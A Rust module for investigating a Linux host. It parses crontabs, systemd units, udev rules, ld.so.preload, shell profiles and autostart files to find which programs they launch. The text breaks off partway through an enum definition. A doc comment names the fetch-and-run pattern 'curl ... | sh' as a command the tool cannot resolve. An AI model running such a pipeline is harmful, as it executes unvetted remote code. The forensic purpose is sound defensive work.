//! Linux autostart locations: which programs cron, systemd, rc.local, ld.so.preload,
//! shell profiles, udev, XDG autostart and SysV init start from a given file.
//!
//! Everything here reads untrusted bytes from a host under investigation, so parsing is
//! lossy, never panics and stays linear in the input (re-parsing of `sh -c` strings is
//! capped at `MAX_DEPTH` levels, each on a shorter string).

use std::borrow::Cow;
use std::collections::VecDeque;

/// The autostart mechanism a file belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// A crontab: `/etc/crontab`, `/etc/cron.d/*`, `/var/spool/cron/...`.
    Cron,
    /// A script run whole by run-parts: `/etc/cron.{hourly,daily,weekly,monthly}/*`.
    CronScript,
    /// A systemd unit or drop-in.
    SystemdUnit,
    /// `/etc/rc.local`.
    RcLocal,
    /// `/etc/ld.so.preload`.
    LdPreload,
    /// A shell startup file: `/etc/profile`, `/etc/profile.d/*`, bashrc, `~/.profile` ...
    ShellProfile,
    /// A udev rules file.
    UdevRule,
    /// An XDG autostart `.desktop` file.
    XdgAutostart,
    /// A SysV init script: `/etc/init.d/*`, `/etc/rcN.d/S*`.
    InitScript,
}

/// One thing an autostart file starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    pub kind: Kind,
    /// 1-based line of the entry in the file.
    pub line: u32,
    /// What runs, as written (cron command, `ExecStart=` value, library path, `RUN+=` value ...).
    pub command: String,
    /// The file that actually runs, when it can be told from the command.
    pub program: Option<String>,
    /// Who it runs as, when the file says so or the path shows it.
    pub user: Option<String>,
    /// Short context: cron schedule, unit directive, udev match ...
    pub detail: String,
}

/// How deep `sh -c`, `eval` and similar strings are re-parsed.
const MAX_DEPTH: u8 = 8;

/// Commands longer than this are not analysed: no real command is this long, and word
/// vectors for hostile megabyte lines would cost far more memory than the input.
const MAX_COMMAND: usize = 64 * 1024;

/// Longest `detail` kept; schedules and udev matches come straight from the file.
const MAX_DETAIL: usize = 256;

/// Directories whose wrappers, interpreters and builtins are taken at their word; the
/// same name elsewhere (`/tmp/.x/sh`) is the program itself.
const STANDARD_DIRS: &[&str] = &[
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/usr/local/sbin",
];

/// Which kind of autostart file the path is, if any (None: not an autostart location).
pub fn kind_of(path: &str) -> Option<Kind> {
    locate(path).map(|loc| loc.kind)
}

/// The entries of an autostart file; `path` decides the kind (see [`kind_of`]).
/// Never panics on any bytes (non-UTF-8 lines are read lossily), bounded work.
pub fn entries(path: &str, data: &[u8]) -> Vec<Entry> {
    let Some(loc) = locate(path) else {
        return Vec::new();
    };
    match loc.kind {
        Kind::Cron => cron_entries(&loc, data),
        Kind::CronScript | Kind::InitScript => vec![Entry {
            kind: loc.kind,
            line: 1,
            command: path.to_string(),
            program: Some(path.to_string()),
            user: None,
            detail: loc.dir,
        }],
        Kind::SystemdUnit => unit_entries(&loc, data),
        Kind::RcLocal | Kind::ShellProfile => shell_entries(&loc, data),
        Kind::LdPreload => preload_entries(data),
        Kind::UdevRule => udev_entries(data),
        Kind::XdgAutostart => desktop_entries(&loc, data),
    }
}

/// The program a shell command runs: skips leading `VAR=value` assignments, wrappers
/// (env, exec, nice, ionice, nohup, sudo, doas, timeout, setsid, flock, stdbuf, time,
/// su/runuser `-c`), guards (`test`/`[ ... ] &&`, `cd X &&`, `command -v`), unwraps
/// `sh -c '...'`/`eval` (up to eight levels) and, for interpreters (sh, bash,
/// python*, perl, php, ruby, node) with a script argument, returns the script.
/// None for an empty or unresolvable command, such as `curl ... | sh`.
pub fn program_of(command: &str) -> Option<String> {
    analyze(command, 0).program()
}

// ---------------------------------------------------------------------------
// Locations

/// What the path tells about a file besides its kind.
struct Location {
    kind: Kind,
    /// Home owner (`/home/u/...`, `/root/...`) or the owner a spool crontab is named after.
    owner: Option<String>,
    /// System crontabs have a user field between schedule and command.
    system_cron: bool,
    /// Units whose type can carry `Exec*=` lines (services, sockets and their drop-ins).
    exec_unit: bool,
    /// Parent directory name, the context of scripts run whole.
    dir: String,
}

impl Location {
    fn new(kind: Kind) -> Self {
        Location {
            kind,
            owner: None,
            system_cron: false,
            exec_unit: false,
            dir: String::new(),
        }
    }
}

fn locate(path: &str) -> Option<Location> {
    let parts: Vec<&str> = path
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    // Dot files are skipped by run-parts and cron alike (`.placeholder`).
    let visible = |name: &str| !name.starts_with('.');
    let loc = match parts.as_slice() {
        ["etc", "crontab"] => system_crontab(),
        ["etc", "cron.d", name] if visible(name) => system_crontab(),
        ["var", "spool", "cron", "crontabs" | "tabs", user] if visible(user) => user_crontab(user),
        ["var", "spool", "cron", user]
            if visible(user)
                && !matches!(
                    *user,
                    "crontabs" | "tabs" | "atjobs" | "atspool" | "lastrun"
                ) =>
        {
            user_crontab(user)
        }
        [
            "etc",
            dir @ ("cron.hourly" | "cron.daily" | "cron.weekly" | "cron.monthly"),
            name,
        ] if visible(name) => script(Kind::CronScript, dir),
        ["etc", "init.d", name] | ["etc", "rc.d", "init.d", name] if visible(name) => {
            script(Kind::InitScript, "init.d")
        }
        ["etc", dir, name] | ["etc", "rc.d", dir, name]
            if is_runlevel_dir(dir) && (name.starts_with('S') || name.starts_with('K')) =>
        {
            script(Kind::InitScript, dir)
        }
        ["etc", "rc.local"] | ["etc", "rc.d", "rc.local"] => Location::new(Kind::RcLocal),
        ["etc", "ld.so.preload"] => Location::new(Kind::LdPreload),
        [
            "etc",
            "profile" | "bash.bashrc" | "bashrc" | "bash.bash_logout" | "zshrc" | "zprofile"
            | "zlogin" | "zlogout" | "zshenv",
        ]
        | [
            "etc",
            "zsh",
            "zshrc" | "zprofile" | "zlogin" | "zlogout" | "zshenv",
        ] => Location::new(Kind::ShellProfile),
        ["etc", "profile.d", name] if visible(name) => Location::new(Kind::ShellProfile),
        ["etc" | "run" | "lib", "udev", "rules.d", name]
        | ["usr", "lib", "udev", "rules.d", name]
            if name.ends_with(".rules") =>
        {
            Location::new(Kind::UdevRule)
        }
        ["etc", "xdg", "autostart", name] if name.ends_with(".desktop") => {
            Location::new(Kind::XdgAutostart)
        }
        ["home", user, rest @ ..] => home_file(user, rest)?,
        ["root", rest @ ..] => home_file("root", rest)?,
        _ => system_unit(&parts)?,
    };
    Some(loc)
}

fn system_crontab() -> Location {
    Location {
        system_cron: true,
        ..Location::new(Kind::Cron)
    }
}

fn user_crontab(user: &str) -> Location {
    Location {
        owner: Some(user.to_string()),
        ..Location::new(Kind::Cron)
    }
}

fn script(kind: Kind, dir: &str) -> Location {
    Location {
        dir: dir.to_string(),
        ..Location::new(kind)
    }
}

fn is_runlevel_dir(dir: &str) -> bool {
    matches!(
        dir,
        "rc0.d" | "rc1.d" | "rc2.d" | "rc3.d" | "rc4.d" | "rc5.d" | "rc6.d" | "rcS.d"
    )
}

/// Files under a home directory; `rest` is the path inside it.
fn home_file(user: &str, rest: &[&str]) -> Option<Location> {
    let kind = match rest {
        [
            ".bashrc" | ".profile" | ".bash_profile" | ".bash_login" | ".bash_logout" | ".zshrc"
            | ".zprofile" | ".zlogin" | ".zlogout" | ".zshenv" | ".xprofile" | ".xsessionrc",
        ] => Location::new(Kind::ShellProfile),
        [".config", "autostart", name] if name.ends_with(".desktop") => {
            Location::new(Kind::XdgAutostart)
        }
        [".config", "systemd", "user", unit @ ..]
        | [".local", "share", "systemd", "user", unit @ ..] => unit_location(unit)?,
        _ => return None,
    };
    Some(Location {
        owner: Some(user.to_string()),
        ..kind
    })
}

fn system_unit(parts: &[&str]) -> Option<Location> {
    const UNIT_DIRS: &[&[&str]] = &[
        &["etc", "systemd", "system"],
        &["etc", "systemd", "user"],
        &["run", "systemd", "system"],
        &["run", "systemd", "user"],
        &["lib", "systemd", "system"],
        &["lib", "systemd", "user"],
        &["usr", "lib", "systemd", "system"],
        &["usr", "lib", "systemd", "user"],
        &["usr", "local", "lib", "systemd", "system"],
    ];
    UNIT_DIRS
        .iter()
        .find_map(|dir| parts.strip_prefix(*dir))
        .and_then(unit_location)
}

/// A unit file (`x.service`, `x.target.wants/y.service`) or drop-in (`x.service.d/y.conf`)
/// inside a unit directory.
fn unit_location(rest: &[&str]) -> Option<Location> {
    let exec_unit = match rest {
        [name] => unit_type(name)?,
        [dir, name] if dir.ends_with(".wants") || dir.ends_with(".requires") => unit_type(name)?,
        [dir, name] if name.ends_with(".conf") => unit_type(dir.strip_suffix(".d")?)?,
        _ => return None,
    };
    Some(Location {
        exec_unit,
        ..Location::new(Kind::SystemdUnit)
    })
}

/// Some(true) for unit types that run commands, Some(false) for other unit types.
fn unit_type(name: &str) -> Option<bool> {
    let (_, suffix) = name.rsplit_once('.')?;
    match suffix {
        "service" | "socket" => Some(true),
        "timer" | "path" | "mount" | "automount" | "swap" | "target" | "slice" | "scope" => {
            Some(false)
        }
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// Lines

fn line_number(index: usize) -> u32 {
    u32::try_from(index.saturating_add(1)).unwrap_or(u32::MAX)
}

/// Physical lines with their 1-based numbers, lossily decoded, without `\r`.
fn numbered_lines(data: &[u8]) -> impl Iterator<Item = (u32, Cow<'_, str>)> {
    data.split(|&b| b == b'\n').enumerate().map(|(i, raw)| {
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        (line_number(i), String::from_utf8_lossy(raw))
    })
}

/// Lines joined where one ends in an unescaped backslash (the backslash is replaced by
/// `glue`), numbered by their first physical line. Comment lines never continue, and
/// with `drop_comments` comment lines inside a continuation are skipped, as systemd does.
fn logical_lines(
    data: &[u8],
    glue: &str,
    comment: &[char],
    drop_comments: bool,
) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    let mut pending: Option<(u32, String)> = None;
    for (number, line) in numbered_lines(data) {
        let is_comment = line.trim_start().starts_with(comment);
        let (start, mut text) = match pending.take() {
            Some(acc) if is_comment && drop_comments => {
                pending = Some(acc);
                continue;
            }
            Some(acc) => acc,
            None if is_comment => {
                out.push((number, line.into_owned()));
                continue;
            }
            None => (number, String::new()),
        };
        let trailing = line.len() - line.trim_end_matches('\\').len();
        if trailing % 2 == 1 {
            text.push_str(&line[..line.len() - 1]);
            text.push_str(glue);
            pending = Some((start, text));
        } else {
            text.push_str(&line);
            out.push((start, text));
        }
    }
    out.extend(pending);
    out
}

/// Cuts `s` to at most `max` bytes on a character boundary.
fn clip(mut s: String, max: usize) -> String {
    if s.len() > max {
        let mut end = max;
        while !s.is_char_boundary(end) {
            end -= 1;
        }
        s.truncate(end);
    }
    s
}

// ---------------------------------------------------------------------------
// Cron

fn cron_entries(loc: &Location, data: &[u8]) -> Vec<Entry> {
    numbered_lines(data)
        .filter_map(|(line, text)| cron_line(loc, line, &text))
        .collect()
}

fn cron_line(loc: &Location, line: u32, text: &str) -> Option<Entry> {
    let text = text.trim_start();
    // cronie: a leading `-` only turns off syslog logging of the job.
    let text = text.strip_prefix('-').unwrap_or(text);
    let first = text.chars().next()?;
    // Schedules start with a digit, `*` or `@`; anything else is a comment, a blank
    // line or a `NAME=value` setting.
    let (schedule, rest) = if first == '@' {
        let (word, rest) = next_field(text)?;
        (word.to_string(), rest)
    } else if first.is_ascii_digit() || first == '*' {
        let mut fields = Vec::with_capacity(5);
        let mut rest = text;
        for _ in 0..5 {
            let (field, after) = next_field(rest)?;
            fields.push(field);
            rest = after;
        }
        (fields.join(" "), rest)
    } else {
        return None;
    };
    let (user, rest) = if loc.system_cron {
        let (user, after) = next_field(rest)?;
        (Some(user.to_string()), after)
    } else {
        (loc.owner.clone(), rest)
    };
    let command = cut_percent(rest).trim();
    if command.is_empty() {
        return None;
    }
    Some(Entry {
        kind: Kind::Cron,
        line,
        command: command.to_string(),
        program: program_of(command),
        user,
        detail: clip(schedule, MAX_DETAIL),
    })
}

/// The next blank-separated field and what follows it (unchanged).
fn next_field(s: &str) -> Option<(&str, &str)> {
    let s = s.trim_start_matches([' ', '\t']);
    if s.is_empty() {
        return None;
    }
    let end = s.find([' ', '\t']).unwrap_or(s.len());
    Some(s.split_at(end))
}

/// Cron turns the first unescaped `%` into a newline and feeds the rest to stdin.
fn cut_percent(command: &str) -> &str {
    let bytes = command.as_bytes();
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        match b {
            b'\\' => i += 2,
            b'%' => return &command[..i],
            _ => i += 1,
        }
    }
    command
}

// ---------------------------------------------------------------------------
// systemd

const EXEC_KEYS: &[&str] = &[
    "ExecCondition",
    "ExecStartPre",
    "ExecStart",
    "ExecStartPost",
    "ExecReload",
    "ExecStopPre",
    "ExecStop",
    "ExecStopPost",
];

fn unit_entries(loc: &Location, data: &[u8]) -> Vec<Entry> {
    if !loc.exec_unit {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut exec_section = false;
    let mut user = None;
    for (line, text) in logical_lines(data, " ", &['#', ';'], true) {
        let text = text.trim();
        if text.is_empty() || text.starts_with(['#', ';']) {
            continue;
        }
        if text.starts_with('[') {
            exec_section = text == "[Service]" || text == "[Socket]";
            continue;
        }
        let Some((key, value)) = text.split_once('=') else {
            continue;
        };
        let (key, value) = (key.trim(), value.trim());
        if !exec_section {
            continue;
        }
        if key == "User" {
            // The last assignment wins; an empty one resets to the default (root).
            user = (!value.is_empty()).then(|| value.to_string());
        } else if EXEC_KEYS.contains(&key) {
            out.extend(exec_entry(line, key, value));
        }
    }
    // A user manager cannot switch users: its units run as the home's owner.
    let user = loc.owner.clone().or(user);
    for entry in &mut out {
        entry.user.clone_from(&user);
    }
    out
}

fn exec_entry(line: u32, key: &str, value: &str) -> Option<Entry> {
    let split = value
        .find(|c| !matches!(c, '-' | '@' | ':' | '+' | '!'))
        .unwrap_or(value.len());
    let (prefix, rest) = value.split_at(split);
    let rest = rest.trim_start();
    // An empty value (`ExecStart=` in a drop-in) only clears the list.
    if rest.is_empty() {
        return None;
    }
    let mut detail = key.to_string();
    if !prefix.is_empty() {
        detail.push_str(&format!(" [{prefix}]"));
    }
    let command = if prefix.contains('@') {
        // `@/path argv0 args`: the second word is only the name the process is shown as.
        let (path, after) = next_field(rest)?;
        let (argv0, args) = next_field(after).unwrap_or(("", ""));
        detail.push_str(&format!(" argv0={argv0}"));
        let args = args.trim_start();
        if args.is_empty() {
            path.to_string()
        } else {
            format!("{path} {args}")
        }
    } else {
        rest.to_string()
    };
    Some(Entry {
        kind: Kind::SystemdUnit,
        line,
        program: program_of(&command),
        command,
        user: None,
        detail: clip(detail, MAX_DETAIL),
    })
}

// ---------------------------------------------------------------------------
// Shell startup files and rc.local

fn shell_entries(loc: &Location, data: &[u8]) -> Vec<Entry> {
    let mut out = Vec::new();
    let mut heredocs: VecDeque<String> = VecDeque::new();
    for (line, text) in logical_lines(data, "", &['#'], false) {
        let text = text.trim();
        // Here-document bodies are data, not commands.
        if let Some(end) = heredocs.front() {
            if text == end {
                heredocs.pop_front();
            }
            continue;
        }
        if text.is_empty() || text.starts_with('#') {
            continue;
        }
        if text.len() > MAX_COMMAND {
            out.push(Entry {
                kind: loc.kind,
                line,
                command: text.to_string(),
                program: None,
                user: loc.owner.clone(),
                detail: "oversized line".to_string(),
            });
            continue;
        }
        let tokens = lex(text);
        heredocs.extend(heredoc_ends(&tokens));
        let found = pipelines(&tokens)
            .iter()
            .map(|stages| analyze_pipeline(stages, 0))
            .find(Found::starts_something);
        if let Some(found) = found {
            out.push(Entry {
                kind: loc.kind,
                line,
                command: text.to_string(),
                program: found.program(),
                user: loc.owner.clone(),
                detail: found.label().to_string(),
            });
        }
    }
    out
}

fn heredoc_ends(tokens: &[Tok]) -> Vec<String> {
    tokens
        .windows(2)
        .filter_map(|pair| match pair {
            [Tok::Redir(Redir::HereDoc), Tok::Word(word)] => Some(word.text.clone()),
            _ => None,
        })
        .collect()
}

/// Paths that name a file rather than a command looked up in PATH.
fn is_path_like(program: &str) -> bool {
    program.starts_with('/')
        || program.starts_with('~')
        || program.starts_with("./")
        || program.starts_with("../")
        || program.starts_with("$HOME/")
        || program.starts_with("${HOME}/")
}

// ---------------------------------------------------------------------------
// ld.so.preload

fn preload_entries(data: &[u8]) -> Vec<Entry> {
    let mut out = Vec::new();
    for (line, text) in numbered_lines(data) {
        // glibc splits on blanks and colons and has no comment syntax; it would try to
        // load every word, so every word is listed except `#`-words, which cannot be
        // meant as libraries.
        for word in text
            .split([' ', '\t', ':'])
            .filter(|w| !w.is_empty() && !w.starts_with('#'))
        {
            out.push(Entry {
                kind: Kind::LdPreload,
                line,
                command: word.to_string(),
                program: Some(word.to_string()),
                user: None,
                detail: "ld.so.preload".to_string(),
            });
        }
    }
    out
}

// ---------------------------------------------------------------------------
// udev

/// One `KEY{attr}op"value"` of a udev rule.
struct UdevPair<'a> {
    key: &'a str,
    attr: Option<&'a str>,
    op: &'a str,
    value: String,
}

fn udev_entries(data: &[u8]) -> Vec<Entry> {
    let mut out = Vec::new();
    for (line, text) in logical_lines(data, "", &['#'], false) {
        let text = text.trim();
        if text.is_empty() || text.starts_with('#') {
            continue;
        }
        let pairs = udev_pairs(text);
        let matches: Vec<String> = pairs
            .iter()
            .filter(|p| matches!(p.op, "==" | "!=") && p.key != "PROGRAM")
            .map(|p| format!("{}{}\"{}\"", key_name(p), p.op, p.value))
            .collect();
        for pair in &pairs {
            let runs = matches!(
                (pair.key, pair.attr),
                ("RUN", None | Some("program")) | ("PROGRAM", None) | ("IMPORT", Some("program"))
            );
            if !runs || pair.value.trim().is_empty() {
                continue;
            }
            let mut detail = format!("{}{}", key_name(pair), pair.op);
            if !matches.is_empty() {
                detail.push_str(" when ");
                detail.push_str(&matches.join(", "));
            }
            // `socket:` targets send the event to a listener instead of running anything.
            let program = if pair.value.starts_with("socket:") {
                None
            } else {
                program_of(&pair.value)
            };
            out.push(Entry {
                kind: Kind::UdevRule,
                line,
                command: pair.value.clone(),
                program,
                user: None,
                detail: clip(detail, MAX_DETAIL),
            });
        }
    }
    out
}

fn key_name(pair: &UdevPair) -> String {
    match pair.attr {
        Some(attr) => format!("{}{{{attr}}}", pair.key),
        None => pair.key.to_string(),
    }
}

/// The key/value pairs of one rule line; parsing stops at the first malformed pair.
fn udev_pairs(line: &str) -> Vec<UdevPair<'_>> {
    let bytes = line.as_bytes();
    let at = |i: usize| bytes.get(i).copied();
    let mut out = Vec::new();
    let mut i = 0;
    loop {
        while at(i).is_some_and(|b| b == b',' || b.is_ascii_whitespace()) {
            i += 1;
        }
        let key_start = i;
        while at(i).is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_') {
            i += 1;
        }
        let key = &line[key_start..i];
        if key.is_empty() {
            break;
        }
        let mut attr = None;
        if at(i) == Some(b'{') {
            let Some(len) = line[i + 1..].find('}') else {
                break;
            };
            attr = Some(&line[i + 1..i + 1 + len]);
            i += len + 2;
        }
        while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
            i += 1;
        }
        let op_start = i;
        while at(i).is_some_and(|b| b"=!+-:".contains(&b)) {
            i += 1;
        }
        let op = &line[op_start..i];
        if !matches!(op, "==" | "!=" | "=" | "+=" | "-=" | ":=") {
            break;
        }
        while at(i).is_some_and(|b| b.is_ascii_whitespace()) {
            i += 1;
        }
        // `e"..."` is udev's escaped-string form; the escapes matter little here.
        if at(i) == Some(b'e') && at(i + 1) == Some(b'"') {
            i += 1;
        }
        if at(i) != Some(b'"') {
            break;
        }
        i += 1;
        let mut value = Vec::new();
        while let Some(b) = at(i) {
            match b {
                b'"' => break,
                b'\\' if at(i + 1) == Some(b'"') => {
                    value.push(b'"');
                    i += 2;
                }
                _ => {
                    value.push(b);
                    i += 1;
                }
            }
        }
        // A value without its closing quote is malformed, as udev takes it.
        if at(i) != Some(b'"') {
            break;
        }
        i += 1;
        out.push(UdevPair {
            key,
            attr,
            op,
            value: String::from_utf8_lossy(&value).into_owned(),
        });
    }
    out
}

// ---------------------------------------------------------------------------
// XDG autostart

fn desktop_entries(loc: &Location, data: &[u8]) -> Vec<Entry> {
    let mut main_group = false;
    let mut hidden = false;
    let mut disabled = false;
    let mut execs = Vec::new();
    for (line, text) in numbered_lines(data) {
        let text = text.trim();
        if text.is_empty() || text.starts_with('#') {
            continue;
        }
        if text.starts_with('[') {
            // Only the main group starts anything; `[Desktop Action x]` groups need a click.
            main_group = text == "[Desktop Entry]";
            continue;
        }
        let Some((key, value)) = text.split_once('=') else {
            continue;
        };
        if !main_group {
            continue;
        }
        let value = value.trim();
        match key.trim() {
            // Duplicate Exec keys are all listed: which one a launcher honours varies.
            "Exec" => execs.push((line, value.to_string())),
            "Hidden" => hidden = value == "true",
            "X-GNOME-Autostart-enabled" => disabled = value == "false",
            _ => {}
        }
    }
    let detail = if hidden {
        "hidden"
    } else if disabled {
        "disabled"
    } else {
        "Exec"
    };
    execs
        .into_iter()
        .filter_map(|(line, value)| {
            let command = strip_field_codes(&value);
            (!command.is_empty()).then(|| Entry {
                kind: Kind::XdgAutostart,
                line,
                program: program_of(&command),
                command,
                user: loc.owner.clone(),
                detail: detail.to_string(),
            })
        })
        .collect()
}

/// Removes the desktop-entry field codes (`%f`, `%U` ...) a launcher would expand.
fn strip_field_codes(exec: &str) -> String {
    let mut out = String::with_capacity(exec.len());
    let mut chars = exec.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.peek() {
            Some('%') => {
                out.push('%');
                chars.next();
            }
            Some('f' | 'F' | 'u' | 'U' | 'd' | 'D' | 'n' | 'N' | 'i' | 'c' | 'k' | 'v' | 'm') => {
                chars.next();
                // Drop the blank before a code that ended an argument.
                if out.ends_with(' ') && chars.peek().is_none_or(|c| matches!(c, ' ' | '"' | '\''))
                {
                    out.pop();
                }
            }
            _ => out.push('%'),
        }
    }
    out.trim().to_string()
}

// ---------------------------------------------------------------------------
// Shell lexing

/// A shell word after quote removal.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Word {
    text: String,
    /// Quotes or backslashes were used: not a reserved word.
    quoted: bool,
    /// Holds `$(...)`, backquotes or `<(...)`: its value is only known at run time.
    dynamic: bool,
    /// `NAME=value`.
    assign: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Redir {
    /// `< file`: the file becomes stdin.
    In,
    /// `<<WORD`: stdin is the lines that follow.
    HereDoc,
    /// `<<< word`: stdin is the word.
    HereString,
    /// Any other redirection; its target is not of interest.
    Other,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(Word),
    /// Ends a pipeline: `;`, `&`, `&&`, `||`, newline, `(`, `)`.
    Sep,
    Pipe,
    Redir(Redir),
}

/// The word being lexed.
#[derive(Default)]
struct WordBuf {
    text: Vec<u8>,
    started: bool,
    quoted: bool,
    dynamic: bool,
    /// Length of `text` when quoting first appeared: an assignment's name must precede it.
    quoted_at: Option<usize>,
}

impl WordBuf {
    fn push(&mut self, bytes: &[u8]) {
        self.started = true;
        self.text.extend_from_slice(bytes);
    }

    fn mark_quoted(&mut self) {
        self.started = true;
        self.quoted = true;
        self.quoted_at.get_or_insert(self.text.len());
    }

    fn mark_dynamic(&mut self) {
        self.mark_quoted();
        self.dynamic = true;
    }

    /// Only digits so far: the file descriptor of a following redirection (`2>`).
    fn is_descriptor(&self) -> bool {
        self.started && !self.quoted && self.text.iter().all(u8::is_ascii_digit)
    }

    fn finish(&mut self, tokens: &mut Vec<Tok>) {
        let buf = std::mem::take(self);
        if !buf.started {
            return;
        }
        let assign = match buf.text.iter().position(|&b| b == b'=') {
            Some(eq) => {
                eq > 0
                    && !buf.text[0].is_ascii_digit()
                    && buf.text[..eq]
                        .iter()
                        .all(|&b| b.is_ascii_alphanumeric() || b == b'_')
                    && buf.quoted_at.is_none_or(|q| q > eq)
            }
            None => false,
        };
        tokens.push(Tok::Word(Word {
            text: String::from_utf8_lossy(&buf.text).into_owned(),
            quoted: buf.quoted,
            dynamic: buf.dynamic,
            assign,
        }));
    }
}

/// Splits one command line into words and operators, shell style.
fn lex(line: &str) -> Vec<Tok> {
    let b = line.as_bytes();
    let at = |i: usize| b.get(i).copied();
    let mut tokens = Vec::new();
    let mut word = WordBuf::default();
    let mut i = 0;
    while let Some(c) = at(i) {
        match c {
            b' ' | b'\t' | b'\r' => {
                word.finish(&mut tokens);
                i += 1;
            }
            b'\n' | b';' | b'(' | b')' => {
                word.finish(&mut tokens);
                tokens.push(Tok::Sep);
                i += 1;
            }
            b'&' => {
                word.finish(&mut tokens);
                match at(i + 1) {
                    Some(b'&') => {
                        tokens.push(Tok::Sep);
                        i += 2;
                    }
                    Some(b'>') => {
                        tokens.push(Tok::Redir(Redir::Other));
                        i += if at(i + 2) == Some(b'>') { 3 } else { 2 };
                    }
                    _ => {
                        tokens.push(Tok::Sep);
                        i += 1;
                    }
                }
            }
            b'|' => {
                word.finish(&mut tokens);
                match at(i + 1) {
                    Some(b'|') => {
                        tokens.push(Tok::Sep);
                        i += 2;
                    }
                    Some(b'&') => {
                        tokens.push(Tok::Pipe);
                        i += 2;
                    }
                    _ => {
                        tokens.push(Tok::Pipe);
                        i += 1;
                    }
                }
            }
            b'<' | b'>' if at(i + 1) == Some(b'(') => {
                // Process substitution: a file name known only at run time.
                let end = skip_group(b, i + 1);
                word.mark_dynamic();
                word.push(&b[i..end]);
                i = end;
            }
            b'<' | b'>' => {
                if word.is_descriptor() {
                    word = WordBuf::default();
                } else {
                    word.finish(&mut tokens);
                }
                let rest = &b[i..];
                let (redir, len) = if rest.starts_with(b"<<<") {
                    (Redir::HereString, 3)
                } else if rest.starts_with(b"<<-") {
                    (Redir::HereDoc, 3)
                } else if rest.starts_with(b"<<") {
                    (Redir::HereDoc, 2)
                } else if rest.starts_with(b"<&") || rest.starts_with(b"<>") {
                    (Redir::Other, 2)
                } else if c == b'<' {
                    (Redir::In, 1)
                } else if rest.starts_with(b">>")
                    || rest.starts_with(b">&")
                    || rest.starts_with(b">|")
                {
                    (Redir::Other, 2)
                } else {
                    (Redir::Other, 1)
                };
                tokens.push(Tok::Redir(redir));
                i += len;
            }
            b'#' if !word.started => {
                while at(i).is_some_and(|c| c != b'\n') {
                    i += 1;
                }
            }
            b'\'' => {
                word.mark_quoted();
                let end = b[i + 1..]
                    .iter()
                    .position(|&c| c == b'\'')
                    .map_or(b.len(), |p| i + 1 + p);
                word.push(&b[i + 1..end]);
                i = end + 1;
            }
            b'"' => {
                word.mark_quoted();
                i += 1;
                while let Some(c) = at(i) {
                    match c {
                        b'"' => break,
                        b'\\' if at(i + 1).is_some_and(|n| b"\"\\$`\n".contains(&n)) => {
                            if at(i + 1) != Some(b'\n') {
                                word.push(&b[i + 1..i + 2]);
                            }
                            i += 2;
                        }
                        b'$' if at(i + 1) == Some(b'(') => {
                            let end = skip_group(b, i + 1);
                            word.mark_dynamic();
                            word.push(&b[i..end]);
                            i = end;
                        }
                        b'`' => {
                            let end = skip_backquote(b, i);
                            word.mark_dynamic();
                            word.push(&b[i..end]);
                            i = end;
                        }
                        _ => {
                            word.push(&b[i..i + 1]);
                            i += 1;
                        }
                    }
                }
                i += 1;
            }
            b'\\' => {
                word.mark_quoted();
                // Backslash-newline joins lines; any other escaped byte is literal.
                if let Some(next) = at(i + 1)
                    && next != b'\n'
                {
                    word.push(&b[i + 1..i + 2]);
                }
                i += 2;
            }
            b'$' if at(i + 1) == Some(b'(') => {
                let end = skip_group(b, i + 1);
                word.mark_dynamic();
                word.push(&b[i..end]);
                i = end;
            }
            b'$' if at(i + 1) == Some(b'{') => {
                let end = b[i..]
                    .iter()
                    .position(|&c| c == b'}')
                    .map_or(b.len(), |p| i + p + 1);
                word.push(&b[i..end]);
                i = end;
            }
            b'`' => {
                let end = skip_backquote(b, i);
                word.mark_dynamic();
                word.push(&b[i..end]);
                i = end;
            }
            _ => {
                // Multi-byte characters pass through byte by byte; only ASCII splits words.
                word.push(&b[i..i + 1]);
                i += 1;
            }
        }
    }
    word.finish(&mut tokens);
    tokens
}

/// End (exclusive) of the parenthesised group opening at `open`, skipping quoted text;
/// the input's end when unbalanced.
fn skip_group(b: &[u8], open: usize) -> usize {
    let mut depth = 0usize;
    let mut i = open;
    while let Some(&c) = b.get(i) {
        match c {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i + 1;
                }
            }
            b'\'' => match b[i + 1..].iter().position(|&c| c == b'\'') {
                Some(p) => i += p + 1,
                None => return b.len(),
            },
            b'"' => {
                i += 1;
                while let Some(&c) = b.get(i) {
                    match c {
                        b'\\' => i += 2,
                        b'"' => break,
                        _ => i += 1,
                    }
                }
            }
            b'\\' => i += 1,
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// End (exclusive) of the backquoted command starting at `open`.
fn skip_backquote(b: &[u8], open: usize) -> usize {
    let mut i = open + 1;
    while let Some(&c) = b.get(i) {
        match c {
            b'\\' => i += 2,
            b'`' => return i + 1,
            _ => i += 1,
        }
    }
    b.len()
}

/// Pipelines of a token list, each a list of stages (the tokens of one simple command).
fn pipelines(tokens: &[Tok]) -> Vec<Vec<&[Tok]>> {
    tokens
        .split(|t| matches!(t, Tok::Sep))
        .filter(|p| !p.is_empty())
        .map(|p| p.split(|t| matches!(t, Tok::Pipe)).collect())
        .collect()
}

// ---------------------------------------------------------------------------
// Command analysis

/// What a command, pipeline or stage starts, from least to most telling.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Found {
    Nothing,
    /// A builtin or condition (`test`, `cd`, `[`...): runs nothing of interest.
    Guard(String),
    /// A file read into the current shell (`. file`).
    Source(String),
    /// An interpreter running code given on its command line (`perl -e`, `python -c`).
    Inline(String),
    /// An interpreter in a later pipeline stage reading its code from the pipe.
    Stdin,
    /// A program or script; `code` when an interpreter or run-time code is involved,
    /// which makes the line worth listing whatever the program.
    Run {
